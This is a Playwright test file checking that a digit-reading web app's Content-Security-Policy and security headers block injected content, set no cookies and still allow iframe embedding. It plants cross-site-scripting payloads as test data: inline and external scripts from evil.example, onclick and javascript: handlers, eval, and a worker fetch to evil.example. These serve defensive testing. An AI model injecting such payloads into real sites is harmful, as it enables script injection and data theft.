import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Route } from '@playwright/test';
import { goldenDigit } from './helpers/drawings';
import { follow, openPage } from './helpers/open';
import { drawOnBox } from './helpers/pen';
import { choosePhoto, expectRead } from './helpers/photo';
import { numberPicture } from './helpers/pictures';
import { servePlainly } from './helpers/plain-host';
import { expect, openReady, prediction, test } from './helpers/test';

declare global {
  interface Window {
    planted: string[];
  }
}

/** What somebody might smuggle into a page, each part saying so where it runs. */
const planted = `
  <style>h1 { --planted: style }</style>
  <script>planted.push('script')</script>
  <script src="https://evil.example/a.js"></script>
  <button id="planted-handler" onclick="planted.push('handler')">Win a prize</button>
  <a id="planted-link" href="javascript:void planted.push('link')">Click here</a>
  <script src="/planted.js"></script>`;

/** A file of the site itself may run, but may not make code out of text. */
const plantedFile = `
  planted.push('file');
  for (const make of [() => eval('1'), () => new Function('return 1')(), () => setTimeout('planted.push("text")')])
    try { if (make() === 1) planted.push('eval'); } catch {}`;

const metaPolicy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/** Serves the home page with all that planted in it, and with one of its two policies alone. */
async function plant(page: Page, without: 'meta' | 'header' | 'both'): Promise<void> {
  await page.addInitScript(() => {
    window.planted = [];
  });
  await page.route('https://evil.example/**', (route) => route.fulfill({ body: "planted.push('other host')" }));
  await page.route('/planted.js', (route) => route.fulfill({ contentType: 'text/javascript', body: plantedFile }));
  await page.route('/', async (route: Route) => {
    const answer = await route.fetch();
    const { 'content-security-policy': header = '', ...headers } = answer.headers();
    const html = await answer.text();
    expect(html).toMatch(metaPolicy);
    expect(header).toContain("default-src 'none'");
    await route.fulfill({
      headers: without === 'meta' ? { ...headers, 'content-security-policy': header } : headers,
      body: (without === 'header' ? html : html.replace(metaPolicy, '')).replace('</body>', `${planted}</body>`),
    });
  });
}

async function whatRan(page: Page): Promise<string[]> {
  await openPage(page, '/');
  for (const id of ['handler', 'link']) await page.locator(`#planted-${id}`).dispatchEvent('click');
  await expect.poll(() => page.evaluate(() => window.planted)).toContain('file');
  const style = () =>
    getComputedStyle(document.querySelector('h1') as Element)
      .getPropertyValue('--planted')
      .trim();
  const styled = await page.evaluate(style);
  return [...(await page.evaluate(() => window.planted)), styled].filter((one) => !['file', ''].includes(one)).sort();
}

test.describe('what is planted in a page', () => {
  // The browser says in its console what it refuses, and the planted address is another host's.
  test.use({ brokenOnPurpose: true, foreignOnPurpose: true });

  test('would run if there were no policy', async ({ page }) => {
    await plant(page, 'both');
    expect(await whatRan(page)).toEqual(
      expect.arrayContaining(['eval', 'handler', 'link', 'other host', 'script', 'style']),
    );
  });

  for (const [without, left] of [
    ['header', 'the policy in its head'],
    ['meta', 'the policy that the host sends'],
  ] as const) {
    test(`does not run, by ${left} alone, and the page still reads`, async ({ page }) => {
      await plant(page, without);
      expect(await whatRan(page)).toEqual([]);
      await expect(page.getByText('Getting ready')).toBeHidden();
      await expect(prediction(page)).toHaveAttribute('data-kind', 'blank');
    });
  }

  test('does not run in the worker either, nor can it send anything away', async ({ page }) => {
    const tries = `
      try { eval('1'); console.log('planted: eval'); } catch (error) { console.log('planted: ' + error.name); }
      // When those who watch the worker are there.
      setTimeout(() => fetch('https://evil.example/').then(() => console.log('planted: sent'), () => console.log('planted: kept')), 500);`;
    await page.route('**/turbopack-worker-*.js', async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: `${await answer.text()};${tries}` });
    });
    const said: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    await openPage(page, '/');
    await expect
      .poll(() => said.filter((text) => text.startsWith('planted')).sort())
      .toEqual(['planted: EvalError', 'planted: kept']);
    // What watches every test sees it, too.
    await expect.poll(() => said.join(' ')).toContain('refuses https://evil.example');
  });
});

test('everything that the host sends carries the policy and guesses at no type', async ({ page, request }) => {
  const paths: string[] = [];
  page.on('response', (response) => paths.push(new URL(response.url()).pathname));
  await openReady(page);
  for (const path of [...paths, '/how-good/', '/nothing-here', '/service-worker.js']) {
    const headers = (await request.get(path)).headers();
    expect(headers['content-security-policy'], path).toMatch(/^default-src 'none'; script-src 'self'/);
    expect(headers['content-security-policy'], path).not.toContain('unsafe-inline');
    expect(headers['content-security-policy'], path).not.toContain("'unsafe-eval'");
    expect(headers['permissions-policy'], path).toContain('camera=(self)');
    expect(headers['permissions-policy'], path).toContain('microphone=()');
    expect(headers['referrer-policy'], path).toBe('no-referrer');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
  }
  expect(paths.join(' ')).toMatch(/turbopack-worker/);
});

test('no cookie is set, whatever one does', async ({ page }) => {
  const setting: string[] = [];
  page.on('response', async (response) => {
    if ((await response.allHeaders())['set-cookie']) setting.push(response.url());
  });
  await openReady(page);
  await choosePhoto(page, await numberPicture(['4026']), '4026');
  await expectRead(page, '4026');
  await follow(page, 'How good is it?');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(setting).toEqual([]);
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.evaluate(() => document.cookie)).toBe('');
});

test.describe('within another site’s page', () => {
  // The frame is on another host.
  test.use({ foreignOnPurpose: true });

  test('the sheet takes ink and digits are read', async ({ page, baseURL }) => {
    const folder = mkdtempSync(join(tmpdir(), 'blog-'));
    const frame = `<iframe src="${baseURL}/?embed=1" width="1000" height="800"></iframe>`;
    writeFileSync(
      join(folder, 'index.html'),
      `<!doctype html><link rel="icon" href="data:,"><title>A blog</title>${frame}`,
    );
    const blog = await servePlainly(folder, '');
    await openPage(page, `${blog.url}/`);
    const embedded = page.frameLocator('iframe');
    await expect(embedded.getByTestId('drawing-pad')).toBeVisible();
    await expect(embedded.getByText('Getting ready')).toBeHidden();
    const sheet = await embedded.getByTestId('drawing-pad').boundingBox();
    if (!sheet) throw new Error('There is no sheet in the frame.');
    await drawOnBox(page, goldenDigit('7').drawing, sheet);
    await expect(embedded.getByTestId('prediction')).toHaveText('7');
    await blog.close();
    rmSync(folder, { recursive: true });
  });
});
